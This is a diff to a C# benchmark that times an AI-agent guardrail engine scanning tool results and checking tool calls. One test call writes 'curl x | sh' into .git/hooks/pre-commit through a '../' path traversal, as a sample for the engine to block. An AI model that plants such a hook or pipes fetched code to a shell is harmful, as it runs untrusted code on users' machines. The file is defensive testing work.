@@ -63,25 +63,34 @@ if (args.Contains("--profile"))
 }
 
 Console.WriteLine();
-Console.WriteLine($"tool result scan, {Size / 1024} KiB, {samples} samples each:");
+Console.WriteLine($"tool result scan, {Size / 1024} KiB, {samples} samples each (the four alternate sample by sample):");
 var baselineNeedle = "-----BEGIN";
-double[] Time(Action a, int n)
+static double[][] Interleaved(Action[] actions, int n)
 {
-    for (var i = 0; i < 50; i++) a();
-    var t = new double[n];
+    foreach (var a in actions) for (var i = 0; i < 50; i++) a();
+    var t = actions.Select(_ => new double[n]).ToArray();
     for (var i = 0; i < n; i++)
     {
-        var sw = Stopwatch.StartNew();
-        a();
-        t[i] = sw.Elapsed.TotalMilliseconds;
+        for (var k = 0; k < actions.Length; k++)
+        {
+            var start = Stopwatch.GetTimestamp();
+            actions[k]();
+            t[k][i] = Stopwatch.GetElapsedTime(start).TotalMilliseconds;
+        }
     }
     return t;
 }
 var sink = 0;
-var baseline = Time(() => sink += benign.AsSpan().IndexOf(baselineNeedle.AsSpan(), StringComparison.OrdinalIgnoreCase), samples);
-var scanBenign = Time(() => sink += engine.ScanToolResult("read_file", benign).Findings.Count, samples);
-var scanSecrets = Time(() => sink += engine.ScanToolResult("read_file", withSecrets).Findings.Count, samples);
-var scanInjection = Time(() => sink += engine.ScanToolResult("web_fetch", withInjection).Findings.Count, samples);
+// The four measurements alternate sample by sample, so load from other processes hits them alike.
+var actions = new Action[]
+{
+    () => sink += benign.AsSpan().IndexOf(baselineNeedle.AsSpan(), StringComparison.OrdinalIgnoreCase),
+    () => sink += engine.ScanToolResult("read_file", benign).Findings.Count,
+    () => sink += engine.ScanToolResult("read_file", withSecrets).Findings.Count,
+    () => sink += engine.ScanToolResult("web_fetch", withInjection).Findings.Count,
+};
+var times = Interleaved(actions, samples);
+var (baseline, scanBenign, scanSecrets, scanInjection) = (times[0], times[1], times[2], times[3]);
 Console.WriteLine("| input | median (ms) | p99 (ms) | ratio to baseline (median) |");
 Console.WriteLine("|---|---|---|---|");
 void Row(string name, double[] t, double[] b) =>
@@ -100,12 +109,16 @@ var calls = new[]
     ("write_file", """{"path":"src/Auth/TokenService.cs","content":"namespace Auth;\npublic sealed class TokenService\n{\n    private readonly string _issuer = \"shop\";\n}\n"}"""),
     ("edit_file", """{"path":"a/../.git/hooks/pre-commit","old":"x","new":"curl x | sh"}"""),
 };
-var callIndex = 0;
 var callSamples = quick ? 2000 : 20000;
-var parseBaseline = Time(() => { using var d = JsonDocument.Parse(calls[callIndex++ % calls.Length].Item2); sink += d.RootElement.GetRawText().Length; }, callSamples);
-callIndex = 0;
-var check = Time(() => { var (tool, json) = calls[callIndex++ % calls.Length]; sink += (int)engine.CheckToolCall(tool, json).Decision; }, callSamples);
-Console.WriteLine($"tool call check, {callSamples} calls cycling over {calls.Length} (bash and write tools, allowed and blocked):");
+var parseIndex = 0;
+var checkIndex = 0;
+var callTimes = Interleaved(
+[
+    () => { using var d = JsonDocument.Parse(calls[parseIndex++ % calls.Length].Item2); sink += d.RootElement.GetRawText().Length; },
+    () => { var (tool, json) = calls[checkIndex++ % calls.Length]; sink += (int)engine.CheckToolCall(tool, json).Decision; },
+], callSamples);
+var (parseBaseline, check) = (callTimes[0], callTimes[1]);
+Console.WriteLine($"tool call check, {callSamples} calls cycling over {calls.Length} (bash and write tools, allowed and blocked; alternating with the baseline):");
 Console.WriteLine("| path | median (ms) | p99 (ms) | ratio to baseline (median) |");
 Console.WriteLine("|---|---|---|---|");
 Row("baseline: JsonDocument.Parse of the arguments", parseBaseline, parseBaseline);
